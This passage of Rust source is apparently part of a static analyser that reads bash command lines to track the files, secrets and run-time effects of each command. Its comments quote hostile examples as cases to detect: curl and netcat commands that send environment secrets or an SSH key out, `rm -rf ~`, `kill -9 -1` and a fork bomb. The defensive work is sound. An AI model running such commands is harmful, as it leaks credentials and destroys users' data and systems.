            let split = env.and_then(|env| env.split);
            let mut wrapped = match split {
                Some((leading, at)) => Some(wrapper::Wrapped {
                    at,
                    leading,
                    or_at: None,
                    entry: None,
                }),
                None => wrapper::wrapped(&program, &args),
            };
            // `env NAME=value program`: the program's own environment, as before its name.
            if program == "env" {
                let own = wrapped.as_ref().map_or(args.len(), |wrapped| wrapped.at);
                for (name, value) in args
                    .iter()
                    .take(own)
                    .filter(|arg| wrapper::is_assignment(arg))
                    .filter_map(|arg| arg.split_once('='))
                {
                    self.dotglob |= name == "BASHOPTS";
                    self.command_env
                        .push((name.to_owned(), Binding::Known(vec![value.to_owned()])));
                }
            }
            // `xargs` and `parallel` hand the words of their input to the program they run.
            // Their input is not the input of what they run then (but with `-a FILE`).
            let mut consumes_input = false;
            let mut xargs_more = Vec::new();
            if wrapper::feeds_arguments(&program, &args) {
                if let Some(at_program) = wrapped
                    .as_ref()
                    .map(|wrapped| wrapped.at)
                    .filter(|at_program| *at_program < args.len())
                {
                    let own = args.get(..at_program).unwrap_or_default();
                    let options = match program.as_str() {
                        "xargs" => xargs::Options::read(own),
                        _ => xargs::Options {
                            arg_file: option_value(own, 'a', "--arg-file"),
                            ..xargs::Options::one_per_line(
                                args.get(at_program..).unwrap_or_default(),
                            )
                        },
                    };
                    consumes_input = options.arg_file.is_none();
                    arg_files.extend(
                        options
                            .arg_file
                            .clone()
                            .filter(|file| !STDIN_PATHS.contains(&file.as_str())),
                    );
                    xargs_more = self.feed_xargs(
                        &program,
                        &options,
                        &mut args,
                        at_program,
                        stdin.as_deref(),
                        at.upstream,
                    );
                }
            }
            // Read all of `args` before the command takes its own words: the scripts it
            // runs, where a `cd` leads and what `find` executes look past a wrapped program.
            // Input that holds a substitution, kept to note it unless it is run as a script.
            let input = stdin
                .as_ref()
                .filter(|input| input.contains("$(") || input.contains('`'))
                .cloned();
            let has_input = stdin.is_some() || !at.upstream.is_empty();
            // `lftp -e 'put F'`, `sftp host <<< 'put F'`: files the client sends.
            let transfer =
                knowledge::transfer_commands(&program, &args, stdin.as_deref(), expand::is_unknown);
            // A wrapper hands its input to the program it runs (`nice bash <<< '…'`), but
            // `xargs` and `parallel` read theirs as arguments (unless `parallel --pipe`).
            let mut runs = self.runs(&program, &written_as, &args, stdin.clone(), at.upstream);
            if wrapped.is_none() || consumes_input {
                stdin = None;
            }
            let sent = match transfer {
                Some(transfer) => self.transfer_runs(&program, transfer, at.upstream, &mut runs),
                None => Vec::new(),
            };
            self.evaluated
                .place(evaluated::command_place(&program, &args));
            let run_as_script = |text: &str| {
                runs.scripts
                    .iter()
                    .chain(&runs.at_exit)
                    .any(|script| script.contains(text))
            };
            // A wrapper's words from the program it runs on are that program's, noted next.
            let own = wrapped
                .as_ref()
                .map_or(args.len(), |wrapped| wrapped.at.min(args.len()));
            for word in args.iter().take(own).chain(&input) {
                if !run_as_script(word) {
                    self.evaluated.text(word);
                }
            }
            self.exit_traps.append(&mut runs.at_exit);
            self.dotglob |= runs.dotglob;
            let cwd = is_cd(&program).then(|| self.directory_after(&program, &args));
            let execs = if program == "find" {
                find_exec(&args)
            } else if program == "fd" || program == "fdfind" {
                fd_exec(&args)
            } else {
                Vec::new()
            };
            let link_args = knowledge::link_maker(&program).map(|_| args.clone());
            // The program an option names (`start-stop-daemon --exec PROG`) comes first.
            let also = wrapped
                .as_ref()
                .and_then(|wrapped| wrapped.or_at)
                .and_then(|at| args.get(at..))
                .map(<[String]>::to_vec);
            // `docker run bitnami/kubectl delete ns x`: the image's program may take the words.
            let entry = wrapped.as_mut().and_then(|wrapped| wrapped.entry.take());
            // `eatmydata rm -rf ~`: a program with no row may run the command in its words.
            let unlisted = wrapped
                .is_none()
                .then(|| unlisted::may_run(&program, &args, &self.context.watched))
                .flatten();
            let next = wrapped.map(|mut wrapped| {
                let rest = args.split_off(wrapped.at.min(args.len()));
                wrapped.leading.extend(rest);
                wrapped.leading
            });
            let writes = writes::written(
                knowledge::writers(&program),
                &args,
                &self.context,
                has_input,
            );
            // A program built from a source written on the line is one too (`gcc x.c -o x`).
            // Its input is a source written on the line when the line gives it.
            let built = knowledge::built_program(&program, &args, |source| {
                if STDIN_PATHS.contains(&source) {
                    has_input || self.input_fetched_or_written()
                } else {
                    source.starts_with("<(") || self.runs_fetched_or_written(source)
                }
            });
            if let Some(built) = built {
                if built.runs_now {
                    runs.opaque.push(format!(
                        "`{program}` runs a program it builds from code written or fetched on \
                         the line, which is only known at run time"
                    ));
                }
                if let Ok(path) = self.path(&built.program, false) {
                    self.written.push(path);
                }
            }
            // `rimraf x`, `cmake -E rm -r x`, `shred -u x` delete as `rm` does.
            let deletes = knowledge::deletes_as_rm(&program, &args, expand::is_unknown);
            // `pkill -u dev` signals every process of the user, as `kill -9 -1` does, and
            // `pgrep -u dev` lists them, as `pgrep .` does.
            let kills = knowledge::picks_every_process(&program, &args);
            let below_folders = writes::operands_below_folders(&program, &args);
            // Only an archive written, fetched or piped in on the line concerns it.
            let unpacks =
                (!self.written.is_empty() || !self.fetched.is_empty() || !at.upstream.is_empty())
                    && writes::unpacks(&program, &args);
            let socat = if program == "socat" {
                knowledge::socat_addresses(&args)
            } else {
                Vec::new()
            };
            // socat and a netcat with `-e`/`-c` run a command with what they relay as its
            // input: a download's.
            let is_socat = program == "socat";
            let in_this_shell = knowledge::runs_code_in_this_shell(&program);
            let relays = is_socat || knowledge::NETCATS.contains(&program.as_str());
            let mut command =
                simple_command(program, args, at.upstream, &self.context, &self.made_links);
            self.dotglob |= turns_on_dotglob(&command);
            if self.dotglob {
                let dotted: Vec<String> = command
                    .paths
                    .iter()
                    .filter_map(|path| dotfiles_a_pattern_may_name(path))
                    .collect();
                for path in dotted {
                    command.paths.extend(secrets_a_pattern_may_name(&path));
                    command.paths.push(path);
                }
            }
            // `tar c -C ~ .ssh` reads `~/.ssh`; the operand is also read as written, in the
            // folder the command runs in.
            for operand in &below_folders {
                if let Ok(path) = self.path(operand, false) {
                    command.paths.push(path);
                }
            }
            // `find -delete` searches the folder it runs in, as `find . -delete` does.
            if command.program == "find" && searches_its_folder(&command.args) {
                if let Ok(path) = self.path(".", false) {
                    command.paths.push(path);
                }
            }
            for file in &sent {
                if let Ok(path) = self.path(file, false) {
                    command.stdin_from.extend(self.writers_of(&path));
                    command.paths.push(path);
                }
            }
            // `nc host 9 < "$E"` sends what it reads: the file its input is redirected from,
            // expanded as bash expands it, is read as a path of the command.
            if let Some(RedirectedInput::File(file)) = &self.input {
                self.input_file(file, &mut command);
            }
            if wrapped_by_xargs {
                for file in &arg_files {
                    self.input_file(file, &mut command);
                }
            }
            self.input_files(&mut command);
            // `find -files0-from F`, `tar -T F`: the operands F holds are only known when
            // the command runs.
            for file in knowledge::operand_files(&command.program, &command.args) {
                let why = format!(
                    "the operands `{}` reads from `{file}` are only known when it runs",
                    command.program
                );
                command
                    .unknown
                    .push(unknown_path_in(&self.context.cwd, why));
            }
            // `gh auth token` prints what `~/.config/gh/hosts.yml` keeps: it reads that file.
            for store in knowledge::secret_stores(&command) {
                if let Ok(path) = self.path(store, false) {
                    command.paths.push(path);
                }
            }
            // `echo "$TOKEN"`, `printenv GITHUB_TOKEN` print what the environment keeps, as
            // its file holds it.
            command.expands.clone_from(&self.secret_words.names);
            let prints_secret_words = self.secret_words.expanded
                && knowledge::WORD_PRINTERS.contains(&command.program.as_str());
            // `k=AWS_SECRET_ACCESS_KEY; curl -d "${!k}" URL`: a sender given a variable whose
            // name its words hide sends what the environment keeps, whichever it is.
            let sends_hidden_secret = self.secret_words.hidden
                && knowledge::DOWNLOADS.contains(&command.program.as_str());
            let looks_up_secret = self.secret_words.expanded
                && knowledge::NAME_LOOKUPS.contains(&command.program.as_str());
            if prints_secret_words
                || sends_hidden_secret
                || looks_up_secret
                || knowledge::prints_environment_secret(
                    &command.program,
                    &command.args,
                    next.is_some(),
                    |name| self.environment(name).is_some(),
                )
            {
                command.paths.push(ENVIRONMENT_FILE.to_owned());
            }
            // `gpg -c -o k.gpg ~/.ssh/id_rsa && curl -F f=@k.gpg …` sends the key: a file the
            // line wrote from a secret is read as the secret it carries (not when deleted or
            // its mode changed). Most lines write no such file: nothing to look up then.
            if !self.secret_copies.is_empty()
                && !knowledge::is_deleter(&command.program)
                && !knowledge::MODE_CHANGERS.contains(&command.program.as_str())
            {
                let carried = self
                    .secret_copies
                    .read_by(&command.paths, &command.args, |file| {
                        normalise(file, &self.context)
                    });
                command.paths.extend(carried);
            }
            let first_write = self.written.len();
            for write in writes {
                let path = write.and_then(|file| match pattern_file(&file, &self.context) {
                    Some(pattern) => Err(pattern),
                    None => self.path(&file, false).map_err(unknown_path),
                });
                match path {
                    Ok(path) => {
                        self.written.push(path.clone());
                        command.writes.push(path);
                    }
                    Err(unknown) => command.unknown.push(Unknown {
                        part: Part::Write(target(&unknown, &self.context)),
                        why: unknown.why,
                    }),
                }
            }
            if self.copies_project_file(&command) {
                self.project_copies.extend(first_write..self.written.len());
            }
            self.secret_copies
                .note(&command.program, &command.paths, command.writes.iter());
            // A file a socat address names is a path of the command, written where socat
            // writes it; of one only known at run time, the path is what follows its type.
            for address in socat {
                if let SocatAddress::Path { path, written } = address {
                    match self.path(&path, false) {
                        Ok(path) if written => {
                            self.written.push(path.clone());
                            command.writes.push(path.clone());
                            command.paths.push(path);
                        }
                        Ok(path) => command.paths.push(path),
                        Err(why) => command
                            .unknown
                            .push(unknown_path_in(&self.context.cwd, why)),
                    }
                }
            }
            command.paths.append(&mut runs.reads);
            if is_socat {
                for unknown in &mut command.unknown {
                    if let Part::Word { prefix, name, .. } = &mut unknown.part {
                        if let Some((_, path)) = knowledge::socat_opens(prefix) {
                            *prefix = path.to_owned();
                            *name = false;
                        }
                    }
                }
            }
            // Only a command that writes a folder fetches one: most write nothing.
            if !command.writes.is_empty() && writes::clones(&command.program, &command.args) {
                let folders = command
                    .writes
                    .iter()
                    .filter_map(|path| path.strip_suffix("/*"));
                self.fetched.extend(folders.map(str::to_owned));
            }
            if unpacks {
                self.note_extracted(&command, at.upstream);
            }
            if let Some(link_args) = link_args {
                self.made_links
                    .note(&command.program, &link_args, &self.context);
            }
            if let Some(why) = unknown_program {
                command.unknown.push(Unknown {
                    part: Part::Program,
                    why,
                });
            }
            // Its name is kept past its record only for the writes of its code, which few have.
            let writer = (!runs.writes.is_empty()).then(|| command.program.clone());
            // A hook a program writes (`cp`, `tee`, `curl -o`, socat's `CREATE:`) or its code
            // does (`fs.writeFileSync('.git/hooks/pre-commit', …)`) gives no text to read.
            if let Some(path) = command
                .writes
                .iter()
                .chain(runs.writes.iter().flatten())
                .find(|path| knowledge::runs_later(path))
            {
                runs.opaque.push(unknown_hook(path));
            }
            // `cat` given no file prints its input: a literal one is what it prints.
            let printed_input = (command.program == "cat"
                && command.args.iter().all(|arg| arg == "-")
                && command.unknown.is_empty())
            .then(|| literal_input.clone())
            .flatten()
            .filter(|input| !expand::is_unknown(input));
            let own_writes = command.writes.clone();
            self.push(command)?;
            let own_index = self.commands.len().saturating_sub(1);
            // `pg_dump -f d.sql`, `redis-cli --rdb d.rdb`: a file a program writes holds what
            // it made of its input, as a redirect's target does, for a command that reads it.
            for path in own_writes {
                let writers = at.upstream.iter().copied().chain([own_index]).collect();
                self.output_files.push((path, writers));
            }
            for name in input_held {
                let holders = at.upstream.iter().copied().chain([own_index]).collect();
                self.fed.push((name, holders));
            }
            if let Some(text) = printed_input {
                self.printed_inputs.push((own_index, text));
            }
            for why in runs.opaque {
                let opaque = SimpleCommand {
                    unknown: vec![Unknown {
                        part: Part::Command,
                        why,
                    }],
                    stdin_from: sorted(at.upstream),
                    ..SimpleCommand::default()
                };
                self.push(opaque)?;
            }
            if let Some(writer) = writer {
                // A file the code writes is one written on the line: run later, it runs
                // what only run time knows.
                self.written
                    .extend(runs.writes.iter().filter_map(|write| write.clone().ok()));
                self.push(inline_writes(&writer, runs.writes, at.upstream))?;
            }
            // What socat runs reads what socat relays from its other address: a download's.
            let relayed: Vec<usize>;
            let run_at = if relays {
                relayed = at.upstream.iter().copied().chain([own_index]).collect();
                At {
                    upstream: &relayed,
                    ..at
                }
            } else {
                at
            };
            // `sh -c SCRIPT NAME ARGS…` gives its script positional parameters of its own.
            let outer = match runs.params {
                Some(params) => Some(self.params.replace(params)),
                None => None,
            };
            // Builtins that run code in this shell (`eval`, `source`) run it with the
            // command's own assignments set: `IFS=@ eval 'x=a@b; $x'` splits at `@`.
            let vars = self.vars.len();
            if in_this_shell {
                self.vars.extend(self.command_env.iter().cloned());
            }
            let read = runs
                .scripts
                .iter()
                .try_for_each(|script| self.nested(script, run_at))
                .and_then(|()| {
                    runs.fed.iter().try_for_each(|(script, input)| {
                        let depth = Depth {
                            scripts: run_at.depth.scripts + 1,
                            ..run_at.depth
                        };
                        self.script_fed(script, run_at.upstream, depth, Some(input.clone()))
                    })
                });
            self.vars.truncate(vars);
            if let Some(outer) = outer {
                self.params = outer;
            }
            read?;
            for run in runs.inline {
                match run {
                    InlineRun::Script(script) => self.nested(&script, run_at)?,
                    InlineRun::Exec(words) => self.simple(words, run_at, None)?,
                }
            }
            if let Some(cwd) = cwd {
                self.context.cwd = cwd;
                moved = true;
            }
            for exec in execs {
                self.simple(exec, at, None)?;
            }
            for words in deletes.into_iter().chain(kills) {
                self.simple(words, at, None)?;
            }
            // Each has its line of input put in already: read from no input again, or a
            // search's names would feed them without end.
            let fed = At {
                upstream: &[],
                ..at
            };
            for words in xargs_more {
                self.simple(words, fed, None)?;
            }
            if let Some(words) = also.or(unlisted) {
                self.simple(words, at, None)?;
            }
            if let Some(words) = entry {
                self.simple(words, at, None)?;
            }
            match next {
                Some(rest) => {
                    args = rest;
                    own_word = false;
                }
                None => return Ok(moved),
            }
        }
    }

    /// The literal input of a client that reads statements from it (a here-string, a
    /// here-document, `printf … |`), or of an interpreter that `args` leave to read its code
    /// from it, recorded as an `echo` of its text upstream of the program, so what reads the
    /// program's input reads the statements or the code as bash hands them over (`<<<
    /// $'.tables\nDROP TABLE t;'` decoded); its index, or `None` for another program or an
    /// input only known at run time
    fn statement_input(
        &mut self,
        program: &str,
        args: &[String],
        input: Option<&str>,
        upstream: &[usize],
    ) -> Result<Option<usize>, Unreadable> {
        let Some(text) = input.filter(|text| {
            (knowledge::STATEMENT_CLIENTS.contains(&program)
                || knowledge::reads_code_from_input(program, args))
                && !expand::is_unknown(text)
        }) else {
            return Ok(None);
        };
        // The text names no file: no path of the command. A here-document's body is given
        // as written and as bash expands it, which may be known only at run time.
        let mut echo = SimpleCommand {
            program: "echo".to_owned(),
            args: vec![text.to_owned()],
            operands: vec![text.to_owned()],
            stdin_from: sorted(upstream),
            ..SimpleCommand::default()
        };
        let expanded = self
            .here_documents
            .iter()
            .rev()
            .find(|(body, _)| body == text)
            .map(|(_, texts)| texts.as_slice())
            .unwrap_or_default();
        for expanded in expanded {
            match UnknownWord::decode(expanded) {
                Some(unknown) => echo.unknown.push(Unknown {
                    part: Part::Word {
                        prefix: unknown.prefix,
                        suffix: unknown.suffix,
                        split: false,
                        name: false,
                        dir: None,
                    },
                    why: unknown.why,
                }),
                None => {
                    echo.args.push(expanded.clone());
                    echo.operands.push(expanded.clone());
                }
            }
        }
        self.push(echo)?;
        Ok(Some(self.commands.len() - 1))
    }

    /// Records one command, within the bounds on commands and links
    fn push(&mut self, command: SimpleCommand) -> Result<(), Unreadable> {
        self.links += command.stdin_from.len();
        if self.commands.len() >= MAX_COMMANDS || self.links > MAX_LINKS {
            return Err(Unreadable::TooManyCommands);
        }
        self.commands.push(command);
        Ok(())
    }

    /// A loop that never ends by itself (`while :`, `until false`, `for ((;;))`) and starts a
    /// command in the background on each turn (`while :; do sleep 1000 & done`) fills the
    /// process table, as a fork bomb does; one sent to the background keeps running after
    /// the line, and one that appends to a file fills the disk. How much it takes is only
    /// known at run time, so it stands as a command known then. So does a `for` loop over a
    /// long count (`$(seq 100000)`, `{1..100000}`) that starts commands in the background.
    fn flood<N: Syntax>(&mut self, node: N, at: At<'_, '_>) -> Result<(), Unreadable> {
        let backgrounds = node.field("body").any(|body| holds_token(body, "&"));
        let appends = node
            .field("body")
            .any(|body| holds_token(body, ">>") || holds_token(body, "&>>"));
        if node.kind() == "for_statement" {
            let turns: u64 = node
                .field("value")
                .map(|value| knowledge::counted_turns(text(value, at.source)))
                .sum();
            if backgrounds && turns > knowledge::MANY_TURNS {
                return self.unknown_command(
                    format!("a loop starts a command in the background {turns} times"),
                    at,
                );
            }
            return Ok(());
        }
        let endless = match node.kind() {
            "c_style_for_statement" => node.field("condition").next().is_none(),
            "while_statement" => {
                let until = node
                    .children()
                    .next()
                    .is_some_and(|word| word.kind() == "until");
                let condition: Vec<&str> = node
                    .field("condition")
                    .filter(Syntax::is_named)
                    .map(|part| text(part, at.source).trim_end_matches([';', ' ', '\t', '\n']))
                    .collect();
                matches!(condition.as_slice(), [only] if knowledge::never_ends(only, until))
            }
            _ => false,
        };
        if !endless {
            return Ok(());
        }
        // The loop itself sent to the background (`while :; do :; done &`) outlives the line.
        let after = at
            .source
            .get(node.byte_range().end..)
            .unwrap_or_default()
            .trim_start();
        let detached =
            after.starts_with('&') && !after.starts_with("&&") && !after.starts_with("&>");
        // Its output sent to a file (`done > log`, `done &>> log`) grows without end too.
        let written = ["&>", ">", "1>"].iter().any(|operator| {
            after.strip_prefix(operator).is_some_and(|rest| {
                !rest
                    .trim_start_matches('>')
                    .trim_start()
                    .starts_with("/dev/null")
            })
        });
        let why = if backgrounds {
            "a loop without end starts a command in the background on each turn"
        } else if detached {
            "a loop without end runs in the background"
        } else if appends || written {
            "a loop without end writes to a file on each turn"
        } else {
            return Ok(());
        };
        self.unknown_command(why.to_owned(), at)
    }

    /// Records a command only known at run time, for `why`
    fn unknown_command(&mut self, why: String, at: At<'_, '_>) -> Result<(), Unreadable> {
        self.push(SimpleCommand {
            unknown: vec![Unknown {
                part: Part::Command,
                why,
            }],
            stdin_from: sorted(at.upstream),
            ..SimpleCommand::default()
        })
    }

    /// Reads the body of the function `name` the line defined, called with `args`, which are
    /// its positional parameters, and `stdin`, the literal input its commands inherit. A call
    /// of a function whose call is being read never ends (`bomb(){ bomb|bomb& }`): what it
    /// runs is only known at run time, as a command hidden then.
    fn call(
        &mut self,
        name: &str,
        body: &str,
        args: &[String],
        at: At<'_, '_>,
        stdin: Option<String>,
    ) -> Result<(), Unreadable> {
        if let Some(outer) = self.calling.iter().position(|calling| calling == name) {
            let through = self.calling.get(outer + 1..).unwrap_or_default();
            let why = if through.is_empty() {
                format!("`{name}` calls itself without end")
            } else {
                format!(
                    "`{name}` calls itself through `{}` without end",
                    through.join("`, `")
                )
            };
            return self.unknown_command(why, at);
        }
        let params = Params {
            zero: self.params.as_ref().and_then(|params| params.zero.clone()),
            args: args.to_vec(),
        };
        let outer = self.params.replace(params);
        let outer_carry =
            std::mem::replace(&mut self.params_carry, self.secret_words.names.clone());
        self.calling.push(name.to_owned());
        let depth = Depth {
            scripts: at.depth.scripts + 1,
            ..at.depth
        };
        let read = self.script_fed(body, at.upstream, depth, stdin);
        self.calling.pop();
        self.params = outer;
        self.params_carry = outer_carry;
        read
    }

    /// Reads the scripts of the line's `EXIT` traps, as the shell runs them when it ends
    fn exit_traps(&mut self) -> Result<(), Unreadable> {
        // A trap's body may set another.
        while !self.exit_traps.is_empty() {
            for body in std::mem::take(&mut self.exit_traps) {
                self.nested(
                    &body,
                    At {
                        source: &body,
                        upstream: &[],
                        depth: Depth::default(),
                    },
                )?;
            }
        }
        Ok(())
    }

    /// Reads the body of each function defined on the line that no call on it read, as a
    /// call the line does not show would run it: with its parameters unknown
    fn uncalled_functions(&mut self) -> Result<(), Unreadable> {
        self.params = None;
        // A body read may define more functions, each read in its turn. The function is out
        // of the list while its body is read: as where it was defined, its calls of itself
        // are no calls of it.
        while let Some(index) = self.functions.iter().position(|function| !function.called) {
            let mut function = self.functions.remove(index);
            function.called = true;
            let read = self.nested(
                &function.body,
                At {
                    source: &function.body,
                    upstream: &[],
                    depth: Depth::default(),
                },
            );
            self.functions
                .insert(index.min(self.functions.len()), function);
            read?;
        }
        Ok(())
    }

    /// Reads a script a command runs, one level deeper
    fn nested(&mut self, script: &str, at: At<'_, '_>) -> Result<(), Unreadable> {
        let depth = Depth {
            scripts: at.depth.scripts + 1,
            ..at.depth
        };
        self.script(script, at.upstream, depth)
    }

    /// Reads `script`, what the alias `name` makes of its command, as a nested script in
    /// which `name` is no alias: bash does not replace an alias within its own text
    fn alias_body(&mut self, name: &str, script: &str, at: At<'_, '_>) -> Result<(), Unreadable> {
        let aliases = self.aliases.clone();
        self.aliases
            .retain(|(alias, _)| alias.as_deref() != Some(name));
        let kept = self.aliases.len();
        let read = self.nested(script, at);
        // The aliases the script defines hold after it too.
        let defined = self.aliases.split_off(kept);
        self.aliases = aliases;
        self.aliases.extend(defined);
        read
    }

    /// `alias NAME=VALUE ...`
    fn define_aliases(&mut self, args: &[String]) {
        for arg in args {
            if let Some((name, value)) = arg.split_once('=') {
                if !expand::is_unknown(arg) {
                    self.aliases.push((Some(name.to_owned()), value.to_owned()));
                }
            }
        }
    }

    /// `hash -p FILE NAME…`: each NAME runs FILE from then on
    fn hash_names(&mut self, args: &[String]) {
        let Some((options, names)) = knowledge::builtin_options("hash", args) else {
            return;
        };
        let Some((_, file)) = options.iter().rev().find(|(letter, _)| *letter == 'p') else {
            return;
        };
        for name in names {
            let name = (!expand::is_unknown(name)).then(|| name.to_owned());
            self.hashed.push((name, (*file).to_owned()));
        }
    }

    /// The file a command's name runs: bash looks a name without `/` up in the table of
    /// `hash` first, so one `hash -p` bound runs its file; a name bound only known at run
    /// time makes every name unknown
    fn hashed_as(&self, name: String) -> String {
        if self.hashed.is_empty() || name.contains('/') || expand::is_unknown(&name) {
            return name;
        }
        let bound = self.hashed.iter().rev().find(|(bound, _)| match bound {
            Some(bound) => *bound == name,
            None => true,
        });
        match bound {
            Some((Some(_), file)) => file.clone(),
            Some((None, file)) => UnknownWord {
                prefix: String::new(),
                suffix: String::new(),
                split: false,
                name: false,
                own_code: false,
                one_word: false,
                why: format!(
                    "`hash -p {file}` binds a name known only at run time, which may be `{name}`"
                ),
            }
            .encode(),
            None => name,
        }
    }

    /// Gives the program `program` (`xargs`, `parallel`) runs (its words from `at_program`
    /// on) the words of its input as `options` say, as xargs(1) does: appended, or, with
    /// `-I R` (`-i`, `--replace`), put for `R` in its words, one command per line of input;
    /// with `-n N` or `-L N`, several commands. The first command's words are left in
    /// `args`; those of the others are returned
    fn feed_xargs(
        &self,
        program: &str,
        options: &xargs::Options,
        args: &mut Vec<String>,
        at_program: usize,
        stdin: Option<&str>,
        upstream: &[usize],
    ) -> Vec<Vec<String>> {
        let template = args.split_off(at_program);
        let mut commands = self
            .xargs_input(program, options, stdin, upstream)
            .into_iter()
            .map(|items| match &options.replace {
                Some(replace) => put_for(&template, replace, &items.concat()),
                None => template.iter().cloned().chain(items).collect(),
            });
        // Given no input at all, `-I` runs nothing; its words are still read as written.
        args.extend(commands.next().unwrap_or_else(|| template.clone()));
        commands.collect()
    }

    /// The items of each command `xargs` runs: those of a literal input, the names the
    /// commands it reads list (see `listed`), or a word only known at run time
    fn xargs_input(
        &self,
        program: &str,
        options: &xargs::Options,
        stdin: Option<&str>,
        upstream: &[usize],
    ) -> Vec<Vec<String>> {
        let unknown = |why: String| {
            vec![vec![UnknownWord {
                prefix: String::new(),
                suffix: String::new(),
                split: true,
                name: false,
                own_code: false,
                one_word: false,
                why,
            }
            .encode()]]
        };
        if let Some(file) = &options.arg_file {
            return unknown(format!(
                "the words `{program}` reads from `{file}` are known only at run time"
            ));
        }
        if let Some(input) = stdin.and_then(UnknownWord::decode) {
            return unknown(input.why);
        }
        if let Some(literal) = stdin {
            return options.commands(literal).unwrap_or_else(|| {
                unknown(format!(
                    "`{program}` refuses its input, whose quote is never closed"
                ))
            });
        }
        if let Some(words) = self.listed_names(upstream) {
            // Each name stands for any files: with `-I`, a command each.
            return match options.replace {
                Some(_) => words.into_iter().map(|word| vec![word]).collect(),
                None => vec![words],
            };
        }
        // `seq 1 5 | xargs -I{} sh -c 'echo {}'`: a number, of either sign, whatever it is.
        let mut feeding = upstream
            .iter()
            .filter_map(|index| self.commands.get(*index));
        if !upstream.is_empty()
            && feeding.all(|command| {
                command.unknown.is_empty()
                    && knowledge::prints_only_numbers(&command.program, &command.args)
            })
        {
            return vec![vec!["1".to_owned()], vec!["-1".to_owned()]];
        }
        unknown(format!(
            "the words `{program}` reads from its input are known only at run time"
        ))
    }

    /// The names the commands of `upstream` print, when all they do is list files (`find`,
    /// `grep -rl`, `git ls-files`, through filters such as `sort` and `head`): each listed
    /// folder stands for the files below it, as a command given them reads them; `None`
    /// when some command may print anything else
    fn listed_names(&self, upstream: &[usize]) -> Option<Vec<String>> {
        let feeding: Vec<&SimpleCommand> = upstream
            .iter()
            .filter_map(|index| self.commands.get(*index))
            .collect();
        let filters = ["grep", "egrep", "fgrep", "sort", "uniq", "head", "tail"];
        let listed = |command: &SimpleCommand| match command.program.as_str() {
            // What it finds: below its roots, a secret its name tests may match among them.
            "find" => Some(found_files(&command.args)),
            // Names of the files a search lists, below the folders it searches.
            program if search_listing_flags(program).is_some() => searched_roots(command),
            // Names of the repository's files, below the folder git runs in.
            "git" if lists_files_below(command) => Some(vec![".".to_owned()]),
            // `ls` prints the names of its operands, or of what the folder it runs in holds.
            "ls" if ls_prints_only_names(&command.flags) => Some(if command.operands.is_empty() {
                vec![".".to_owned()]
            } else {
                command.operands.clone()
            }),
            _ => None,
        };
        let from_listers = feeding.iter().any(|command| listed(command).is_some())
            && feeding.iter().all(|command| {
                command.unknown.is_empty()
                    && (listed(command).is_some() || filters.contains(&command.program.as_str()))
            });
        if !from_listers {
            return None;
        }
        Some(
            feeding
                .iter()
                .filter_map(|command| listed(command))
                .flatten()
                .collect(),
        )
    }

    /// `word` as a normalised path, through the links made on the line so far; or why
    /// where it leads is only known at run time (see [`Links::resolve`])
    fn path(&self, word: &str, itself_is_link: bool) -> Result<String, String> {
        self.made_links
            .resolve(normalise(word, &self.context), itself_is_link)
    }

    /// Notes the file `command`'s input is redirected from among its paths, or as a word
    /// known only at run time
    fn input_file(&self, file: &str, command: &mut SimpleCommand) {
        let why = match UnknownWord::decode(file) {
            Some(unknown) => {
                if let Some(file) = knowledge::process_file(&unknown.prefix, &unknown.suffix) {
                    command.paths.push(file.to_owned());
                }
                unknown.why
            }
            None => match self.path(file, false) {
                Ok(path) => {
                    command.stdin_from.extend(self.writers_of(&path));
                    return command.paths.push(path);
                }
                Err(why) => format!("`{file}` goes through a link made on this line, and {why}"),
            },
        };
        command
            .unknown
            .push(unknown_path_in(&self.context.cwd, why));
    }

    /// The commands whose output the file at `path` holds, as the line last wrote it
    fn writers_of(&self, path: &str) -> &[usize] {
        latest(&self.output_files, path).unwrap_or_default()
    }

    /// `kubectl delete -f n.yaml`: a file an option hands the program as its input, which a
    /// redirect wrote on the line, carries the output of the commands that wrote it, as a
    /// pipe would (`kubectl get ns x -o yaml | kubectl delete -f -`)
    fn input_files(&self, command: &mut SimpleCommand) {
        for file in knowledge::input_files(&command.program, &command.args) {
            let path = normalise(file, &self.context);
            command.stdin_from.extend(self.writers_of(&path));
            // The file is read as an operand is (`dd if=.env`): a path of the command.
            if !command.paths.contains(&path) {
                command.paths.push(path);
            }
        }
        command.stdin_from.sort_unstable();
        command.stdin_from.dedup();
    }

    /// The target of a redirect (normalised, or a word only known at run time) through the
    /// links made on the line so far
    fn follow(&self, target: &str) -> String {
        if expand::is_unknown(target) {
            return target.to_owned();
        }
        self.made_links
            .resolve(target.to_owned(), false)
            .unwrap_or_else(|why| {
                unknown_path(format!(
                    "`{target}` goes through a link made on this line, and {why}"
                ))
                .encode()
            })
    }

    /// Where `cd` (or `pushd`, `popd`) with `args` leads; `None` when only known at run time
    fn directory_after(&self, program: &str, args: &[String]) -> Option<String> {
        let mut targets = args
            .iter()
            .filter(|arg| !arg.starts_with('-') || *arg == "-");
        let target = targets.next();
        match (program, target) {
            ("popd", _) => None,
            // Several folders are the values of a loop's passes (`for d in /tmp /; do cd
            // "$d"`), each the folder of a pass, or too many for bash, which stays where it
            // is: only run time knows which.
            _ if targets.next().is_some() => None,
            (_, None) => self.path("~", false).ok(),
            (_, Some(dir))
                if dir == "-"
                    || expand::is_unknown(dir)
                    || (dir.contains('$') && !dir.starts_with("$HOME")) =>
            {
                None
            }
            // With `CDPATH` set on the line, a relative folder is looked for in its folders
            // unless it starts with `/`, `./` or `../`, or is `.` or `..` (bash(1), `cd`):
            // `.ssh` is looked for there too.
            (_, Some(dir))
                if !(dir.starts_with(['/', '~'])
                    || matches!(dir.as_str(), "." | "..")
                    || dir.starts_with("./")
                    || dir.starts_with("../"))
                    && self.environment("CDPATH").is_some() =>
            {
                None
            }
            (_, Some(dir)) => self.path(dir, false).ok(),
        }
    }

    /// The value of the environment variable `name` a command is given: set before its name
    /// (`X=1 git diff`) or earlier on the line; a `*` in `name` stands for any part of it
    fn environment(&self, name: &str) -> Option<&Binding> {
        self.command_env
            .iter()
            .rev()
            .chain(self.vars.iter().rev())
            .find(|(var, _)| var == name || knowledge::variable_matches(name, var))
            .map(|(var, binding)| match binding {
                // A reference's value is its target's (bash exports the target).
                Binding::Reference(_) => expand::lookup(&self.vars, var).unwrap_or(binding),
                _ => binding,
            })
    }

    /// A file written earlier on the line that `program` runs by its place or name, or
    /// through a variable naming it (see [`knowledge::AUTORUNS`])
    fn autoruns(&self, program: &str, subcommand: Option<&str>, args: &[String], runs: &mut Runs) {
        // `python3 -m pytest` runs what `pytest` does.
        let module = python_module(program, args).map(|(module, _)| module);
